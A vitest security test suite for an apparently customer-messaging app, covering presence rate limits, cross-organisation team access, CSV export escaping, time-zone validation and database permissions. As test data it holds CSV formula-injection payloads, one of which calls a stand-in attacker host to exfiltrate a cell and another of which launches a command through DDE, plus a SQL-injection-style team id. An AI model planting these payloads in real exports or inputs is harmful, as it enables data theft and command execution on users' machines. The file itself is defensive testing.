import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { useClients, useTestStack } from '../support/fixture';
import { refusedFor } from '../support/postgrest';
import { agentRoom } from '../../server/sockets/rooms';
import { api, customer } from '../support/stack';
import { until } from '../support/wait';

/**
 * Time available and the team filter of reports as an attacker reaches them (issue 35): a client
 * that flaps its presence to write spans without end, another organisation's team, hostile team
 * names in the SLA table's CSV.
 */
describe('Security: reports, time available and the team filter', () => {
  const ctx = useTestStack({ orgs: { a: 2, b: 1 } });
  const clients = useClients(ctx);
  const period = 'from=2026-12-01T00:00:00Z&to=2026-12-08T00:00:00Z&timeZone=Europe/Berlin';
  const admin = () => ctx.a.agents[0]!.token;
  const spans = async (agentId: string) =>
    (await ctx.stack.db.query<{ n: number }>('select count(*)::int as n from report_agent_spans where agent_id = $1', [agentId])).rows[0]!.n;

  /** Presence writes running in the database (server/routing/presence.ts: `presence_mark_connected`, `presence_mark_gone`). */
  const presenceWrites = async () =>
    (
      await ctx.stack.db.query<{ n: number }>(
        `select count(*)::int as n from pg_stat_activity
          where pid <> pg_backend_pid() and state <> 'idle' and query ilike '%presence_mark_%'`,
      )
    ).rows[0]!.n;

  it('a socket flapping its presence a thousand times writes a bounded number of spans', async () => {
    const agent = ctx.a.agents[1]!;
    const socket = await clients.connect(agent.token);
    await until(async () => (await spans(agent.id)) > 0, { what: 'the connection’s span' });
    const before = await spans(agent.id);
    const cut: string[] = [];
    socket.on('disconnect', (reason) => cut.push(reason));
    // Paced by the heartbeat (events of one socket are handled in order; its answer comes after
    // them), so no frame grows past the server's limit: the socket stays connected.
    for (let i = 0; i < 250; i++) {
      socket.emit('presence:set', { state: 'away' });
      socket.emit('presence:set', { state: 'online' });
      await socket.timeout(10_000).emitWithAck('heartbeat');
    }
    expect(cut).toEqual([]);
    // Then their database writes (server/routing/presence.ts: `presence_mark_connected`,
    // `presence_mark_gone`): none waits for a connection of the server's pool, none runs.
    await until(async () => ctx.stack.db.waitingCount === 0 && (await presenceWrites()) === 0, { what: 'the presence writes done' });
    // The events the server takes (10 a second per socket) each move the series at most once:
    // without a limit, each pair of events above is a span of its own (500).
    expect(await spans(agent.id)).toBeLessThan(before + 40);
  });

  it('flapping availability over the API is held to the agent’s request budget: a span per request at most, then 429', async () => {
    const agent = ctx.a.agents[1]!;
    // The test before's socket gone on the server too, and its presence written: its disconnect
    // ends a span, and the next connection's starts one, neither a request's.
    await until(async () => (await ctx.stack.app.io.in(agentRoom(agent.id)).fetchSockets()).length === 0, { what: 'the last test’s socket gone' });
    await until(async () => ctx.stack.db.waitingCount === 0 && (await presenceWrites()) === 0, { what: 'its presence written' });
    await clients.connect(agent.token);
    // The connection's own span open first (the test before may have left the agent away, so an
    // earlier span is no sign of this connection): counted from here, every span is a request's.
    const open = async () =>
      (await ctx.stack.db.query<{ n: number }>('select count(*)::int as n from report_agent_spans where agent_id = $1 and ended_at is null', [agent.id]))
        .rows[0]!.n;
    await until(async () => (await open()) === 1, { what: 'the connection’s open span' });
    const before = await spans(agent.id);
    const statuses: number[] = [];
    for (let i = 0; i < 150; i++)
      statuses.push((await api(ctx.stack, agent.token, '/api/routing/availability', 'PUT', { availability: i % 2 ? 'available' : 'busy' })).status);
    const taken = statuses.filter((s) => s === 200).length;
    expect([taken <= 120, statuses.includes(429)]).toEqual([true, true]);
    expect(await spans(agent.id)).toBeLessThanOrEqual(before + taken);
  });

  it('another organisation’s team is the same 404 as a team that does not exist; a malformed id is a 400', async () => {
    const teamB = (await api<{ id: string }>(ctx.stack, ctx.b.agents[0]!.token, '/api/admin/teams', 'POST', { name: 'B secret team' })).body.id;
    const missing = '00000000-0000-4000-8000-000000000000';
    for (const path of ['/api/reports?', '/api/reports/csv?table=sla&', '/api/reports/csv?table=agents&']) {
      const other = await api<{ error: string; message: string }>(ctx.stack, admin(), `${path}${period}&team=${teamB}`);
      const none = await api<{ error: string; message: string }>(ctx.stack, admin(), `${path}${period}&team=${missing}`);
      expect([path, other.status, other.body]).toEqual([path, 404, none.body]);
      expect(none.body.error).toBe('not_found');
      for (const bad of ['x', `${teamB}'--`, `${teamB},${teamB}`])
        expect([path, bad, (await api(ctx.stack, admin(), `${path}${period}&team=${encodeURIComponent(bad)}`)).status]).toEqual([path, bad, 400]);
    }
  });

  it('SLA table CSV: team and agent names that start a formula stay text', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '@SUM(1+1)'];
    const from = customer();
    await ctx.stack.inbound({ from, to: ctx.a.number, body: 'needs an answer' });
    const find = async () => (await ctx.stack.db.query<{ id: string }>('select id from conversations where organisation_id = $1', [ctx.a.id])).rows[0]?.id;
    await until(async () => (await find()) !== undefined, { what: 'the conversation' });
    const conversation = (await find())!;
    await ctx.stack.db.query("update agents set display_name = '+cmd|'' /C calc''!A0' where id = $1", [ctx.a.agents[1]!.id]);
    await ctx.stack.db.query('update conversations set assignee_id = $2 where id = $1', [conversation, ctx.a.agents[1]!.id]);
    // A clock of each team, met in the period: the SLA table then has a row of each team and of the assignee.
    for (const [cycle, name] of hostile.entries()) {
      const team = (await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name })).body.id;
      await ctx.stack.db.query(
        `insert into sla_clocks (conversation_id, kind, cycle, organisation_id, team_id, target_minutes, started_at, due_at, stopped_at)
         values ($1, 'next_response', $2 + 100, $3, $4, 60, '2026-12-02T10:00:00Z', '2026-12-02T11:00:00Z', '2026-12-02T10:30:00Z')`,
        [conversation, cycle, ctx.a.id, team],
      );
    }
    const res = await fetch(`${ctx.stack.serverUrl}/api/reports/csv?table=sla&${period}`, { headers: { authorization: `Bearer ${admin()}` } });
    expect(res.status).toBe(200);
    const text = await res.text();
    for (const name of [...hostile, "+cmd|' /C calc'!A0"]) {
      expect(text).toContain(`'${name.replaceAll('"', '""')}`);
      expect(text).not.toMatch(new RegExp(`(^|,)"?${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm'));
    }
  });

  it('a time zone the runtime knows but PostgreSQL does not is a 400, for hours and reports alike', async () => {
    // US/Pacific-New: in ICU's list, gone from the tz database (2020b) that PostgreSQL reads.
    const zone = 'US/Pacific-New';
    const team = (await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'Zone' })).body.id;
    const hours = { enabled: true, timeZone: zone, intervals: [{ weekday: 1, opensMinute: 540, closesMinute: 1020 }] };
    const put = await api<{ error: string; message: string }>(ctx.stack, admin(), `/api/admin/teams/${team}/hours`, 'PUT', hours);
    expect([put.status, put.body.error, put.body.message]).toEqual([400, 'bad_request', expect.stringContaining('timeZone')]);
    const { rows } = await ctx.stack.db.query('select time_zone, hours_enabled from teams where id = $1', [team]);
    expect(rows).toEqual([{ time_zone: 'UTC', hours_enabled: false }]);
    const report = await api<{ error: string }>(ctx.stack, admin(), `/api/reports?${period.replace('Europe/Berlin', encodeURIComponent(zone))}`);
    expect([report.status, report.body.error]).toEqual([400, 'bad_request']);
  });

  it('a team zone PostgreSQL no longer knows (a tz database update) loses no reply: the fact keeps its wall-clock time', async () => {
    const team = (await api<{ id: string }>(ctx.stack, admin(), '/api/admin/teams', 'POST', { name: 'Old zone' })).body.id;
    const hours = { enabled: true, timeZone: 'Europe/Berlin', intervals: [{ weekday: 1, opensMinute: 540, closesMinute: 1020 }] };
    expect((await api(ctx.stack, admin(), `/api/admin/teams/${team}/hours`, 'PUT', hours)).status).toBe(200);
    expect((await api(ctx.stack, admin(), `/api/admin/channels/${ctx.a.channelId}/team`, 'PUT', { teamId: team })).status).toBe(200);
    // Stored when PostgreSQL still knew it; a later tz database dropped it.
    await ctx.stack.db.query("update teams set time_zone = 'US/Pacific-New' where id = $1", [team]);
    const from = customer();
    await ctx.stack.inbound({ from, to: ctx.a.number, body: 'anyone there?' });
    const find = async () =>
      (await ctx.stack.db.query<{ id: string }>('select v.id from contacts c join conversations v on v.contact_id = c.id where c.phone_e164 = $1', [from]))
        .rows[0]?.id;
    await until(async () => (await find()) !== undefined, { what: 'the conversation' });
    const conversation = (await find())!;
    const reply = await api(ctx.stack, admin(), `/api/conversations/${conversation}/messages`, 'POST', { id: randomUUID(), body: 'Here' });
    expect(reply.status).toBeLessThan(300);
    const facts = await ctx.stack.db.query<{ same: boolean }>('select business_seconds = seconds as same from report_responses where conversation_id = $1', [
      conversation,
    ]);
    expect(facts.rows).toEqual([{ same: true }]);
    // A span with an infinite end (no message has one) is counted as such, not walked day by day without end.
    await ctx.stack.db.query("update teams set time_zone = 'Europe/Berlin' where id = $1", [team]);
    const c = await ctx.stack.db.connect();
    try {
      await c.query("set statement_timeout = '60s'");
      const { rows } = await c.query('select report_business_seconds($1, $2, now()) as s', [team, '-infinity']);
      expect(rows).toEqual([{ s: Infinity }]);
    } finally {
      await c.query('reset statement_timeout');
      c.release();
    }
    await ctx.stack.db.query('update channels set team_id = null where id = $1', [ctx.a.channelId]);
  });

  it('an agent calls none of the business-hours functions and writes no presence, routing state or span', async () => {
    const agent = ctx.a.agents[1]!.id;
    for (const sql of [
      `select business_seconds(null, now() - interval '1 day', now())`,
      `select business_instant(localtimestamp, 'UTC')`,
      `select report_business_seconds(null, now() - interval '1 day', now())`,
      `select report_span_move('${ctx.a.id}', '${agent}', null, 'available')`,
      `update agent_presence set connected_until = now() + interval '1 year' where agent_id = '${agent}'`,
      `update agent_routing set availability = 'available' where agent_id = '${agent}'`,
      `select presence_mark_connected(array['${agent}']::uuid[], 31536000)`,
      `select presence_mark_gone('${agent}')`,
      `select routing_set_availability('${agent}', '${ctx.a.id}', 'available')`,
      `insert into report_agent_spans (organisation_id, agent_id, state, started_at) values ('${ctx.a.id}', '${agent}', 'available', now() - interval '1 year')`,
    ])
      expect([sql, await refusedFor(ctx.stack, agent, sql)]).toEqual([sql, { refused: true, code: '42501' }]);
  });
});
